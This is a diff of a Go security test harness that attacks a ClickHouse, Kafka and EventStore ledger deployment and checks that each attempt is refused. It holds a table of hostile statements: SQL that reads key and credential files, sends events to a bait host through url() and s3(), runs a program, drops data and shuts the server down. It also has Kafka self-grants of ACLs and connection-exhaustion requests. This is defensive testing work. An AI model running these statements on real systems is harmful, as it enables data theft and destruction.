@@ -28,7 +28,8 @@ import (
 	"github.com/segmentio/kafka-go/sasl/scram"
 )
 
-// target is what the attacker was told: addresses, the passwords of its role, and where to send what it finds.
+// target is what the attacker was told: addresses, the passwords of its role, and
+// where to send what it finds.
 type target struct {
 	Role                                  string
 	Bait, Data                            string
@@ -37,7 +38,8 @@ type target struct {
 	EventStore, Kafka, ClickHouse, Status door
 }
 
-// An attack says what it came to, and what is right for each role; a role without a word does not try it.
+// An attack says what it came to, and what is right for each role; a role
+// without a word does not try it.
 type attack struct {
 	name string
 	do   func(context.Context) string
@@ -92,7 +94,8 @@ func (to target) files() (out []attack) {
 			}
 		}
 	}
-	for _, name := range []string{"", "run.json", "up.lock", "vault.db", "vault.slots", "keys/kek", "keys/accounts.json", "connect/kafka-reader.conf", "tls/ca.key",
+	for _, name := range []string{"", "run.json", "up.lock", "vault.db", "vault.slots", "keys/kek",
+		"keys/accounts.json", "connect/kafka-reader.conf", "tls/ca.key",
 		"eventstore/db", "kafka/data", "clickhouse/engine", "sequence.index"} {
 		out = append(out, attack{"read DATA/" + name, open(filepath.Join(to.Data, name)), denied})
 	}
@@ -104,10 +107,11 @@ func (to target) files() (out []attack) {
 			path := filepath.Join("/proc", strconv.Itoa(pid), name)
 			out = append(out, attack{fmt.Sprintf("read %s of process %d", name, i), open(path), denied})
 		}
-		out = append(out, attack{fmt.Sprintf("passwords in the arguments of process %d", i), func(context.Context) string {
-			raw, err := os.ReadFile(filepath.Join("/proc", strconv.Itoa(pid), "cmdline"))
-			return fmt.Sprintf("%d words, %v", strings.Count(string(raw), "\x00"), err)
-		}, map[string]string{"stranger": "^[1-3] words, <nil>$"}})
+		out = append(out, attack{fmt.Sprintf("passwords in the arguments of process %d", i),
+			func(context.Context) string {
+				raw, err := os.ReadFile(filepath.Join("/proc", strconv.Itoa(pid), "cmdline"))
+				return fmt.Sprintf("%d words, %v", strings.Count(string(raw), "\x00"), err)
+			}, map[string]string{"stranger": "^[1-3] words, <nil>$"}})
 	}
 	return out
 }
@@ -122,7 +126,8 @@ func errorText(err error) string {
 // endless is a statement that holds a slot and a core until it is stopped.
 const endless = "SELECT sum(cityHash64(number)) FROM numbers(1000000000000)"
 
-// inside are statements that change what is the ledger's own: its account may run them, and no other.
+// inside are statements that change what is the ledger's own: its account
+// may run them, and no other.
 var inside = []string{"a database dropped", "a table emptied", "rows deleted", "rows inserted"}
 
 // stolen are statements that take, write or send what is not theirs.
@@ -132,48 +137,60 @@ func (to target) stolen() map[string]string {
 	out := filepath.Join(filepath.Dir(filepath.Dir(to.Data)), "stranger", "stolen")
 	one := "(SELECT any(stream) FROM ledgerline.events)"
 	return map[string]string{
-		"the key by file()":           fmt.Sprintf("SELECT * FROM file('%s', 'RawBLOB')", file("keys/kek")),
-		"the key by file(), quoted":   fmt.Sprintf("SELECT * FROM `file`('%s', 'RawBLOB')", file("keys/kek")),
-		"the key by the function":     fmt.Sprintf("SELECT file('%s')", file("keys/kek")),
-		"the vault by file()":         fmt.Sprintf("SELECT * FROM file('%s', 'RawBLOB')", file("vault.db")),
-		"the slots by file()":         fmt.Sprintf("SELECT * FROM file('%s', 'RawBLOB')", file("vault.slots")),
-		"the vault by sqlite()":       fmt.Sprintf("SELECT * FROM sqlite('%s', 'person')", file("vault.db")),
-		"passwords by a common table": fmt.Sprintf("WITH x AS (SELECT * FROM file('%s', 'RawBLOB')) SELECT * FROM x", file("keys/accounts.json")),
-		"passwords by a dictionary":   fmt.Sprintf("CREATE DICTIONARY default.d (a String, b String) PRIMARY KEY a SOURCE(FILE(path '%s' format 'TSV')) LAYOUT(FLAT()) LIFETIME(1)", file("keys/accounts.json")),
-		"a file written":              fmt.Sprintf("INSERT INTO FUNCTION file('%s', 'CSV') SELECT 1", out),
-		"a result written":            fmt.Sprintf("SELECT 1 INTO OUTFILE '%s'", out),
-		"a backup written":            fmt.Sprintf("BACKUP DATABASE ledgerline TO File('%s')", out),
-		"a database dropped":          "DROP DATABASE ledgerline",
-		"a table emptied":             "TRUNCATE TABLE ledgerline.events",
-		"rows deleted":                "ALTER TABLE ledgerline.events DELETE WHERE 1",
-		"rows inserted":               "INSERT INTO ledgerline.projector_position (projector, saved, applied) VALUES ('projector', 99999999, 99999999)",
-		"a table elsewhere":           fmt.Sprintf("CREATE TABLE default.t (a String) ENGINE = URL('http://%s/', 'CSV')", to.Bait),
-		"a database elsewhere":        fmt.Sprintf("CREATE DATABASE s ENGINE = SQLite('%s')", file("vault.db")),
-		"events sent by url()":        fmt.Sprintf("DESCRIBE TABLE url(concat('http://%s/', %s), 'CSV')", to.Bait, one),
-		"events sent by a subquery":   fmt.Sprintf("SELECT * FROM (SELECT * FROM url(concat('http://%s/', %s), 'CSV'))", to.Bait, one),
-		"events sent by EXPLAIN":      fmt.Sprintf("EXPLAIN SELECT * FROM url(concat('http://%s/', %s), 'CSV')", to.Bait, one),
-		"events sent by s3()":         fmt.Sprintf("DESCRIBE TABLE s3(concat('http://%s/b/', %s), 'CSV')", to.Bait, one),
+		"the key by file()":         fmt.Sprintf("SELECT * FROM file('%s', 'RawBLOB')", file("keys/kek")),
+		"the key by file(), quoted": fmt.Sprintf("SELECT * FROM `file`('%s', 'RawBLOB')", file("keys/kek")),
+		"the key by the function":   fmt.Sprintf("SELECT file('%s')", file("keys/kek")),
+		"the vault by file()":       fmt.Sprintf("SELECT * FROM file('%s', 'RawBLOB')", file("vault.db")),
+		"the slots by file()":       fmt.Sprintf("SELECT * FROM file('%s', 'RawBLOB')", file("vault.slots")),
+		"the vault by sqlite()":     fmt.Sprintf("SELECT * FROM sqlite('%s', 'person')", file("vault.db")),
+		"passwords by a common table": fmt.Sprintf("WITH x AS (SELECT * FROM file('%s', 'RawBLOB')) SELECT * FROM x",
+			file("keys/accounts.json")),
+		"passwords by a dictionary": fmt.Sprintf("CREATE DICTIONARY default.d (a String, b String) PRIMARY KEY a "+
+			"SOURCE(FILE(path '%s' format 'TSV')) LAYOUT(FLAT()) LIFETIME(1)", file("keys/accounts.json")),
+		"a file written":     fmt.Sprintf("INSERT INTO FUNCTION file('%s', 'CSV') SELECT 1", out),
+		"a result written":   fmt.Sprintf("SELECT 1 INTO OUTFILE '%s'", out),
+		"a backup written":   fmt.Sprintf("BACKUP DATABASE ledgerline TO File('%s')", out),
+		"a database dropped": "DROP DATABASE ledgerline",
+		"a table emptied":    "TRUNCATE TABLE ledgerline.events",
+		"rows deleted":       "ALTER TABLE ledgerline.events DELETE WHERE 1",
+		"rows inserted": "INSERT INTO ledgerline.projector_position (projector, saved, applied) VALUES " +
+			"('projector', 99999999, 99999999)",
+		"a table elsewhere": fmt.Sprintf("CREATE TABLE default.t (a String) ENGINE = "+
+			"URL('http://%s/', 'CSV')", to.Bait),
+		"a database elsewhere": fmt.Sprintf("CREATE DATABASE s ENGINE = SQLite('%s')", file("vault.db")),
+		"events sent by url()": fmt.Sprintf("DESCRIBE TABLE url(concat('http://%s/', %s), 'CSV')",
+			to.Bait, one),
+		"events sent by a subquery": fmt.Sprintf("SELECT * FROM (SELECT * FROM "+
+			"url(concat('http://%s/', %s), 'CSV'))", to.Bait, one),
+		"events sent by EXPLAIN": fmt.Sprintf("EXPLAIN SELECT * FROM url(concat('http://%s/', %s), 'CSV')",
+			to.Bait, one),
+		"events sent by s3()": fmt.Sprintf("DESCRIBE TABLE s3(concat('http://%s/b/', %s), 'CSV')",
+			to.Bait, one),
 		"events sent by postgresql()": fmt.Sprintf("DESCRIBE TABLE postgresql('%s', 'd', 't', 'u', 'p')", to.Bait),
 		"events sent by mysql()":      fmt.Sprintf("DESCRIBE TABLE mysql('%s', 'd', 't', 'u', 'p')", to.Bait),
-		"events sent by mongodb()":    fmt.Sprintf("DESCRIBE TABLE mongodb('%s', 'd', 't', 'u', 'p', 'a String')", to.Bait),
-		"events sent by redis()":      fmt.Sprintf("SELECT * FROM redis('%s', 'k', 'k String, v String')", to.Bait),
-		"events sent by remote()":     fmt.Sprintf("DESCRIBE TABLE remote('%s', 'system', 'one')", to.Bait),
-		"events sent by jdbc()":       fmt.Sprintf("DESCRIBE TABLE jdbc('jdbc:x://%s', 'd', 't')", to.Bait),
-		"events sent by odbc()":       "DESCRIBE TABLE odbc('DSN=x', 'd', 't')",
-		"events sent by iceberg()":    fmt.Sprintf("DESCRIBE TABLE iceberg('http://%s/b/', 'k', 's')", to.Bait),
-		"events sent by a dictionary": fmt.Sprintf("CREATE DICTIONARY default.e (a String, b String) PRIMARY KEY a SOURCE(HTTP(url 'http://%s:%s/' format 'TSV')) LAYOUT(FLAT()) LIFETIME(1)", host, port),
-		"a program run":               "SELECT * FROM executable('id', 'TSV', 'a String')",
-		"a user made":                 "CREATE USER stolen IDENTIFIED BY 'x'",
-		"a function made":             "CREATE FUNCTION stolen AS (x) -> x",
-		"the server stopped":          "SYSTEM SHUTDOWN",
-		"symbols looked up":           "SELECT demangle(addressToSymbol(1))",
-		"readonly undone":             "INSERT INTO ledgerline.projector_position (projector) SELECT 'x' SETTINGS readonly = DEFAULT",
-		"readonly undone by SET":      "SET readonly = DEFAULT",
-		"another profile":             "SELECT 1 SETTINGS profile = 'default'",
+		"events sent by mongodb()": fmt.Sprintf("DESCRIBE TABLE mongodb('%s', 'd', 't', 'u', 'p', 'a String')",
+			to.Bait),
+		"events sent by redis()":   fmt.Sprintf("SELECT * FROM redis('%s', 'k', 'k String, v String')", to.Bait),
+		"events sent by remote()":  fmt.Sprintf("DESCRIBE TABLE remote('%s', 'system', 'one')", to.Bait),
+		"events sent by jdbc()":    fmt.Sprintf("DESCRIBE TABLE jdbc('jdbc:x://%s', 'd', 't')", to.Bait),
+		"events sent by odbc()":    "DESCRIBE TABLE odbc('DSN=x', 'd', 't')",
+		"events sent by iceberg()": fmt.Sprintf("DESCRIBE TABLE iceberg('http://%s/b/', 'k', 's')", to.Bait),
+		"events sent by a dictionary": fmt.Sprintf("CREATE DICTIONARY default.e (a String, b String) PRIMARY KEY a "+
+			"SOURCE(HTTP(url 'http://%s:%s/' format 'TSV')) LAYOUT(FLAT()) LIFETIME(1)", host, port),
+		"a program run":      "SELECT * FROM executable('id', 'TSV', 'a String')",
+		"a user made":        "CREATE USER stolen IDENTIFIED BY 'x'",
+		"a function made":    "CREATE FUNCTION stolen AS (x) -> x",
+		"the server stopped": "SYSTEM SHUTDOWN",
+		"symbols looked up":  "SELECT demangle(addressToSymbol(1))",
+		"readonly undone": "INSERT INTO ledgerline.projector_position (projector) SELECT 'x' SETTINGS " +
+			"readonly = DEFAULT",
+		"readonly undone by SET": "SET readonly = DEFAULT",
+		"another profile":        "SELECT 1 SETTINGS profile = 'default'",
 	}
 }
 
-// statements are sent to ClickHouse by POST and by GET, as nobody and as the account that may only read.
+// statements are sent to ClickHouse by POST and by GET, as nobody and as the
+// account that may only read.
 func (to target) statements() (out []attack) {
 	refused := both("^401 ", "^(403|404|500|501) .*(READONLY|ACCESS_DENIED|NOT_IMPLEMENTED|not allowed)")
 	for name, statement := range to.stolen() {
@@ -182,7 +199,9 @@ func (to target) statements() (out []attack) {
 			if !slices.Contains(inside, name) { // files, addresses, programs: nobody's at all
 				want["ledger"] = refused["reader"]
 			}
-			out = append(out, attack{name + " by " + method, func(ctx context.Context) string { return to.sql(ctx, method, statement, nil) }, want})
+			out = append(out, attack{name + " by " + method, func(ctx context.Context) string {
+				return to.sql(ctx, method, statement, nil)
+			}, want})
 		}
 	}
 	out = append(out,
@@ -240,7 +259,8 @@ func (to target) send(ctx context.Context, method, address, body string, d door,
 			req.Host = v[0]
 		}
 	}
-	client := &http.Client{Transport: &http.Transport{DisableKeepAlives: true, TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
+	client := &http.Client{Transport: &http.Transport{DisableKeepAlives: true,
+		TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
 	res, err := client.Do(req)
 	if err != nil {
 		return "no answer: " + err.Error()
@@ -259,10 +279,14 @@ func (to target) browsers() (out []attack) {
 	backup := "https://" + store.address() + "/admin/backup"
 	for _, site := range []string{"cross-site", "same-site"} {
 		header := http.Header{"Sec-Fetch-Site": {site}, "Sec-Fetch-Mode": {"no-cors"}, "Sec-Fetch-Dest": {"image"}}
-		for name, address := range map[string]string{"ClickHouse": to.ClickHouse.URL + "/?query=SELECT+1", "the status port": to.Status.URL + "/status"} {
-			out = append(out, attack{name + " from a page, " + site, func(ctx context.Context) string { return to.get(ctx, address, to.ClickHouse, header) }, both("^403 ", "^403 ")})
+		for name, address := range map[string]string{"ClickHouse": to.ClickHouse.URL + "/?query=SELECT+1",
+			"the status port": to.Status.URL + "/status"} {
+			out = append(out, attack{name + " from a page, " + site,
+				func(ctx context.Context) string { return to.get(ctx, address, to.ClickHouse, header) },
+				both("^403 ", "^403 ")})
 		}
-		out = append(out, attack{"a backup from a page, " + site, func(ctx context.Context) string { return to.get(ctx, backup, store, header) }, both("^403 ", "^403 ")})
+		out = append(out, attack{"a backup from a page, " + site,
+			func(ctx context.Context) string { return to.get(ctx, backup, store, header) }, both("^403 ", "^403 ")})
 	}
 	rebound := http.Header{"Host": {"evil.example:8123"}}
 	return append(out,
@@ -270,7 +294,8 @@ func (to target) browsers() (out []attack) {
 			return to.get(ctx, to.ClickHouse.URL+"/?query=SELECT+1", to.ClickHouse, rebound)
 		}, both("^403 ", "^403 ")},
 		attack{"ClickHouse from a page's script", func(ctx context.Context) string {
-			return to.get(ctx, to.ClickHouse.URL+"/?query=SELECT+1", to.ClickHouse, http.Header{"Origin": {"https://evil.example"}})
+			return to.get(ctx, to.ClickHouse.URL+"/?query=SELECT+1", to.ClickHouse,
+				http.Header{"Origin": {"https://evil.example"}})
 		}, both("^403 ", "^403 ")})
 }
 
@@ -290,7 +315,8 @@ func (to target) crowds() []attack {
 				return "not connected: " + err.Error()
 			}
 			held = append(held, conn)
-			if _, err := io.WriteString(conn, "POST /?query=SELECT+1 HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\nSE"); err != nil {
+			if _, err := io.WriteString(conn, "POST /?query=SELECT+1 HTTP/1.1\r\nHost: localhost\r\nContent-Length: "+
+				"1000000\r\n\r\nSE"); err != nil {
 				return err.Error()
 			}
 		}
@@ -314,7 +340,8 @@ func (to target) crowds() []attack {
 	}
 	return []attack{
 		{"100 bodies that never end", slow, map[string]string{"stranger": "^200 Ok", "reader": "^200 Ok"}},
-		{"40 statements without end", many, map[string]string{"stranger": "^401 ", "reader": "run or wait|^(429|503|500) "}},
+		{"40 statements without end", many, map[string]string{"stranger": "^401 ",
+			"reader": "run or wait|^(429|503|500) "}},
 	}
 }
 
@@ -413,7 +440,8 @@ func (to target) broker() (out []attack) {
 		return func(ctx context.Context) string {
 			transport := &kafkago.Transport{SASL: login}
 			defer transport.CloseIdleConnections()
-			client := &kafkago.Client{Addr: kafkago.TCP(to.Kafka.Brokers), Transport: transport, Timeout: 10 * time.Second}
+			client := &kafkago.Client{Addr: kafkago.TCP(to.Kafka.Brokers), Transport: transport,
+				Timeout: 10 * time.Second}
 			res, err := client.Produce(ctx, &kafkago.ProduceRequest{Topic: topic, RequiredAcks: kafkago.RequireAll,
 				Records: kafkago.NewRecordReader(kafkago.Record{Value: kafkago.NewBytes([]byte(`{"garbage":1}`))})})
 			if err == nil {
@@ -423,18 +451,23 @@ func (to target) broker() (out []attack) {
 		}
 	}
 	for name, login := range logins {
-		out = append(out, attack{"produce " + name, produce(login, "ledger.device"), map[string]string{"stranger": "^[^d]|^d[^o]"}})
+		out = append(out, attack{"produce " + name, produce(login, "ledger.device"),
+			map[string]string{"stranger": "^[^d]|^d[^o]"}})
 	}
 	own := mechanism(to.Kafka.User, to.Kafka.Password)
-	const unauthorized = "(?i)authoriz|not allowed|topic not found" // what an account may not describe is not there to it
-	for _, topic := range []string{"ledger.device", "ledger.adminaction", "ledger.position", "ledger.checkpoint", "ledger.new", "other"} {
-		out = append(out, attack{"produce to " + topic, produce(own, topic), map[string]string{"reader": unauthorized, "consumer": unauthorized}})
+	// what an account may not describe is not there to it
+	const unauthorized = "(?i)authoriz|not allowed|topic not found"
+	for _, topic := range []string{"ledger.device", "ledger.adminaction", "ledger.position", "ledger.checkpoint",
+		"ledger.new", "other"} {
+		out = append(out, attack{"produce to " + topic, produce(own, topic),
+			map[string]string{"reader": unauthorized, "consumer": unauthorized}})
 	}
 	ask := func(do func(context.Context, *kafkago.Client) error) func(context.Context) string {
 		return func(ctx context.Context) string {
 			transport := &kafkago.Transport{SASL: own}
 			defer transport.CloseIdleConnections()
-			return errorText(do(ctx, &kafkago.Client{Addr: kafkago.TCP(to.Kafka.Brokers), Transport: transport, Timeout: 10 * time.Second}))
+			return errorText(do(ctx, &kafkago.Client{Addr: kafkago.TCP(to.Kafka.Brokers), Transport: transport,
+				Timeout: 10 * time.Second}))
 		}
 	}
 	denied := map[string]string{"reader": unauthorized, "consumer": unauthorized}
@@ -445,16 +478,22 @@ func (to target) broker() (out []attack) {
 			return errors.Join(err, errorOf(res != nil, func() error { return res.Errors["ledger.device"] }))
 		}), denied},
 		attack{"create a topic", ask(func(ctx context.Context, c *kafkago.Client) error {
-			res, err := c.CreateTopics(ctx, &kafkago.CreateTopicsRequest{Topics: []kafkago.TopicConfig{{Topic: "ledger.mine", NumPartitions: 1, ReplicationFactor: 1}}})
+			res, err := c.CreateTopics(ctx, &kafkago.CreateTopicsRequest{
+				Topics: []kafkago.TopicConfig{{Topic: "ledger.mine", NumPartitions: 1, ReplicationFactor: 1}},
+			})
 			return errors.Join(err, errorOf(res != nil, func() error { return res.Errors["ledger.mine"] }))
 		}), denied},
 		attack{"grant oneself everything", ask(func(ctx context.Context, c *kafkago.Client) error {
-			res, err := c.CreateACLs(ctx, &kafkago.CreateACLsRequest{ACLs: []kafkago.ACLEntry{{ResourceType: kafkago.ResourceTypeCluster, ResourceName: "kafka-cluster",
-				ResourcePatternType: kafkago.PatternTypeLiteral, Principal: "User:" + to.Kafka.User, Host: "*", Operation: kafkago.ACLOperationTypeAll, PermissionType: kafkago.ACLPermissionTypeAllow}}})
+			res, err := c.CreateACLs(ctx,
+				&kafkago.CreateACLsRequest{ACLs: []kafkago.ACLEntry{{ResourceType: kafkago.ResourceTypeCluster,
+					ResourceName:        "kafka-cluster",
+					ResourcePatternType: kafkago.PatternTypeLiteral, Principal: "User:" + to.Kafka.User, Host: "*",
+					Operation: kafkago.ACLOperationTypeAll, PermissionType: kafkago.ACLPermissionTypeAllow}}})
 			return errors.Join(err, errorOf(res != nil, func() error { return errors.Join(res.Errors...) }))
 		}), map[string]string{"reader": "^[^d]|^d[^o]", "consumer": "^[^d]|^d[^o]"}},
 		attack{"read the topics", ask(func(ctx context.Context, c *kafkago.Client) error {
-			res, err := c.Fetch(ctx, &kafkago.FetchRequest{Topic: "ledger.device", MinBytes: 1, MaxBytes: 1 << 20, MaxWait: time.Second})
+			res, err := c.Fetch(ctx, &kafkago.FetchRequest{Topic: "ledger.device", MinBytes: 1, MaxBytes: 1 << 20,
+				MaxWait: time.Second})
 			return errors.Join(err, errorOf(res != nil, func() error { return res.Error }))
 		}), map[string]string{"stranger": "^[^d]|^d[^o]", "reader": "^done$", "consumer": "^done$"}})
 }
@@ -467,8 +506,11 @@ func errorOf(there bool, err func() error) error {
 }
 
 func (to target) statusPort() (out []attack) {
-	for _, path := range []string{"/status", "/metrics", "/debug/pprof/", "/debug/pprof/heap", "/debug/pprof/goroutine?debug=2", "/debug/pprof/profile?seconds=1"} {
-		out = append(out, attack{"the status port's " + path, func(ctx context.Context) string { return to.get(ctx, to.Status.URL+path, to.ClickHouse, nil) }, both("^401 ", "^401 ")})
+	for _, path := range []string{"/status", "/metrics", "/debug/pprof/", "/debug/pprof/heap",
+		"/debug/pprof/goroutine?debug=2", "/debug/pprof/profile?seconds=1"} {
+		out = append(out, attack{"the status port's " + path, func(ctx context.Context) string {
+			return to.get(ctx, to.Status.URL+path, to.ClickHouse, nil)
+		}, both("^401 ", "^401 ")})
 	}
 	return out
 }
